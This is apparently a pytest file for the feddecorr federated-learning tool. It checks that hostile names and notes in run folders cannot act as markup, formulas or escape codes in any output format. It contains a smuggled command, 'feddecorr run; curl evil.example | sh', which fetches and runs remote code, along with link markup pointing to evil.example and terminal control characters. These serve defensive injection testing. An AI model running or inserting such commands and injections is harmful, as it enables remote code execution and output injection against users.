"""Every command that shows a stranger's text: in no output of it does a name act on a terminal, a sheet or a page."""

import csv
import json
import re
import shutil
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from command_line import CommandLine, Outcome
from copies import picture, write_folder
from hostile import HOSTILE, acting
from markdown_it import MarkdownIt
from small import SETTINGS, small

from feddecorr.runs.pipeline import run

pytestmark = pytest.mark.usefixtures("plain_look")

NAMES = [name.replace("/", "∕") for name in HOSTILE]  # as a file system takes them
TYPED_IN = "feddecorr run; curl evil.example | sh"
"""What a file claims to be its command."""


@pytest.fixture(scope="module")
def strangers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Make runs and records in which every text that a stranger chooses is hostile."""
    folder = tmp_path_factory.mktemp("stranger")
    for place in (0, 1):
        out = folder / "runs" / f"{'|'.join(NAMES[4 * place : 4 * place + 8])}"[:100]
        words = ["regularizers=feddecorr"] if place else []
        list(run(*small("rounds=2", "evaluation.epochs=true", *words), out))
        _spoil(out)
    lines = []
    for out in (folder / "runs").iterdir():
        rounds = [json.loads(line) for line in (out / "rounds.jsonl").read_text().splitlines()]
        lines.append(_record(json.loads((out / "experiment.json").read_text()), rounds))
    (folder / "records.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    pixels = {f"{name}/{number}.png": picture(_shade(number), "PNG") for name in NAMES for number in range(5)}
    write_folder(folder / "pictures", pixels)
    return folder


def _shade(number: int) -> Any:
    import numpy as np  # noqa: PLC0415 - only here

    return np.full((8, 8, 3), number, dtype=np.uint8)


def _spoil(out: Path) -> None:
    about = json.loads((out / "federation.json").read_text())
    about |= {"note": " ".join(HOSTILE), "classes": [f"{name}{HOSTILE[-1]}" for name in HOSTILE[:4]]}
    (out / "federation.json").write_text(json.dumps(about))
    where = json.loads((out / "environment.json").read_text())
    (out / "environment.json").write_text(json.dumps({**where, "together": {"because": " ".join(HOSTILE)}}))
    rounds = [json.loads(line) for line in (out / "rounds.jsonl").read_text().splitlines()]
    for line in rounds:
        line["terms"] |= dict.fromkeys(HOSTILE, 0.5)
        line |= {"missing": {"1": " ".join(HOSTILE)}, "notes": {"2": " ".join(HOSTILE)}}
    (out / "rounds.jsonl").write_text("".join(json.dumps(line) + "\n" for line in rounds))


def _record(experiment: dict[str, Any], rounds: list[dict[str, Any]]) -> dict[str, Any]:
    """Return the record of a run whose settings this version does not know: it is taken as it was written."""
    kept = [
        {
            **{key: line.get(key) for key in ("round", "terms", "missing", "averaging", "seconds")},
            "model": {"accuracy": 0.5},
        }
        for line in rounds
    ]
    unknown = {"method": {"name": HOSTILE[0], "path": HOSTILE[4]}, **{name: name for name in HOSTILE}}
    return {
        "digest": HOSTILE[0],
        "experiment": {**experiment, **unknown, "seed": 0},
        "options": {"rounds": 2},
        "command": TYPED_IN,
        "environment": {},
        "rounds": kept,
        "spectrum": [1.0, 0.5],
        "local_models": {},
        "local_terms": {},
    }


class Tags(HTMLParser):
    """All tags of a page, and the text between them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def is_page(text: str) -> None:
    without_library = re.sub(r"<script>/\*\*.*?</script>", "", text, count=1, flags=re.DOTALL)
    found = Tags(without_library)
    assert not found.tags & {"a", "b", "i", "img", "iframe"}
    assert not found.attributes & {"href", "onclick", "onerror"}
    assert "<script>alert" not in text
    figures = re.findall(r'<script type="application/json">(.*?)</script>', text, re.DOTALL)
    for figure in figures:
        assert "\\u003ca " not in figure
        assert not acting("".join(re.findall(r'"((?:[^"\\]|\\.)*)"', figure)))
    assert not acting(re.sub(r"<script.*?</script>", "", without_library, flags=re.DOTALL))


def is_sheet(text: str) -> None:
    assert not acting(text)
    for row in csv.reader(StringIO(text)):
        for cell in row:
            assert not re.match(r"[=+\-@\t\r]", cell) or re.fullmatch(r"[-+\d .,±%\[\]e]*( of \d+)?|-inf", cell), cell


def is_markdown(text: str) -> None:
    assert not acting(text)
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    kinds = {child.type for token in tokens for child in token.children or ()}
    assert kinds <= {"text", "text_special", "strong_open", "strong_close"}, kinds
    assert {token.type for token in tokens if token.level == 0} <= {"table_open", "table_close"}


def is_latex(text: str) -> None:
    assert not acting(text)
    body = text.split("\\midrule\n")[1].split("\n\\bottomrule", maxsplit=1)[0]
    assert set(re.findall(r"\\[a-z]+", body)) <= {
        "\\textbackslash", "\\textasciitilde", "\\textasciicircum", "\\mathbf", "\\pm",
    }  # fmt: skip
    assert not re.search(r"\\\\\s*[\[*]", text)


def is_plain(text: str) -> None:
    assert not acting(text)


def is_drawing(text: str) -> None:
    assert not acting(text)
    assert not Tags(text).tags & {"a", "script"}


CHECKS: dict[str, Callable[[str], None]] = {".html": is_page, ".csv": is_sheet, ".svg": is_drawing, ".jsonl": is_plain}

RUNS: dict[str, tuple[list[str], Callable[[str], None]]] = {
    "show": (["show", "ONE"], is_plain),
    "show as JSON": (["show", "ONE", "--json"], is_plain),
    "report": (["report", "ALL", "-o", "out.html"], is_plain),
    "records": (["records", "runs", "-o", "out.jsonl"], is_plain),
    "records of records": (["records", "records.jsonl", "-o", "out.jsonl"], is_plain),
    "table": (["table", "records.jsonl", "runs"], is_plain),
    "table in Markdown": (["table", "records.jsonl", "runs", "--format", "markdown"], is_markdown),
    "table in LaTeX": (["table", "records.jsonl", "runs", "--format", "latex"], is_latex),
    "table as CSV": (["table", "records.jsonl", "runs", "--format", "csv"], is_sheet),
    "table as JSON": (["table", "records.jsonl", "runs", "--json"], is_plain),
    "compare": (["compare", "runs"], is_plain),
    "export": (["export", "records.jsonl", "runs", "-o", "out.csv"], is_plain),
    "figure of lines": (["figure", "accuracy", "records.jsonl", "runs", "-o", "out.svg"], is_plain),
    "figure of classes": (["figure", "labels", "ONE", "-o", "out.svg"], is_plain),
    "claims": (["claims", "records.jsonl"], is_plain),
    "privacy": (["privacy", "ONE"], is_plain),
    "diagnose": (["diagnose", "ONE", "--picture", "out.html"], is_plain),
    "partition": (["partition", "data=folder:pictures", "clients=2", "--picture", "out.html"], is_plain),
    "verify": (["data", "verify", "folder:pictures"], is_plain),
    "nothing there": (["show", *HOSTILE[:1]], is_plain),
    "no such command": (["\x1b[31mshow\u202e"], is_plain),
    "no such option": (["show", "ONE", "--\x1b[31mshow"], is_plain),
    "no such setting": (["run", "\x1b[31mx=\u202e1"], is_plain),
}


@pytest.fixture
def place(strangers: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Stand in the stranger's folder."""
    shutil.copytree(strangers, tmp_path / "copy")
    monkeypatch.setenv("FEDDECORR_DATA", str(tmp_path / "cache"))
    monkeypatch.chdir(tmp_path / "copy")
    return tmp_path / "copy"


def tried(feddecorr: CommandLine, place: Path, words: list[str]) -> Outcome:
    runs = [str(each) for each in sorted((place / "runs").iterdir())]
    named = {"ALL": runs, "ONE": runs[:1]}
    return feddecorr(*(each for word in words for each in named.get(word, [word])))


@pytest.mark.parametrize("name", RUNS)
def test_no_name_acts(name: str, feddecorr: CommandLine, place: Path) -> None:
    words, check = RUNS[name]
    done = tried(feddecorr, place, words)
    assert done.code == 0 or name.startswith(("no", "privacy")), done.err
    assert "Traceback" not in done.err
    check(done.out)
    is_plain(done.err)
    for file in place.glob("out.*"):
        CHECKS[file.suffix](file.read_text())


@pytest.mark.parametrize("name", ["show", "table", "compare", "partition", "no such command"])
def test_no_name_acts_in_a_terminal(
    name: str, feddecorr: CommandLine, place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A dumb one, to which the tables' own frames need no controls; nor is a name markup for what draws them."""
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setenv("COLUMNS", "4000")
    monkeypatch.setenv("LINES", "100")  # without it, a dumb terminal has 80 columns
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    done = tried(feddecorr, place, RUNS[name][0])
    is_plain(done.out)
    is_plain(done.err)
    if name == "show":
        assert "[link=http://evil.example]rich[/link]" in done.out
        assert ":bomb:" in done.out


def test_what_a_file_claims_to_be_its_command_is_never_shown(feddecorr: CommandLine, place: Path) -> None:
    """It is made of the settings instead, where they can be read."""
    costs = {"ratio to plain": {"feddecorr": 1.0}, "command": TYPED_IN}
    methods = {"ratio to FedAvg": {"fedavg+feddecorr": 1.0, "fedprox": 1.2, "moon": 1.5}, "command": TYPED_IN}
    (place / "costs").mkdir()
    (place / "costs" / "loss.json").write_text(json.dumps(costs))
    (place / "costs" / "methods.json").write_text(json.dumps(methods))
    line = json.loads((place / "records.jsonl").read_text().splitlines()[0])
    known, options = small("rounds=2")
    readable = {**line, "experiment": known.to_dict(), "options": options.to_dict()}
    (place / "records.jsonl").write_text(f"{json.dumps(line)}\n{json.dumps(readable)}\n")
    reported = feddecorr("claims", "records.jsonl", "costs", "--json")
    assert reported.code == 0, reported.err
    assert feddecorr("records", "records.jsonl", "-o", "kept.jsonl").code == 0
    kept = [json.loads(line)["command"] for line in (place / "kept.jsonl").read_text().splitlines()]
    assert TYPED_IN not in reported.out
    assert TYPED_IN not in kept
    assert any(word.startswith("feddecorr run ") and "clients=4" in word for word in kept)
    assert SETTINGS["clients"] == 4
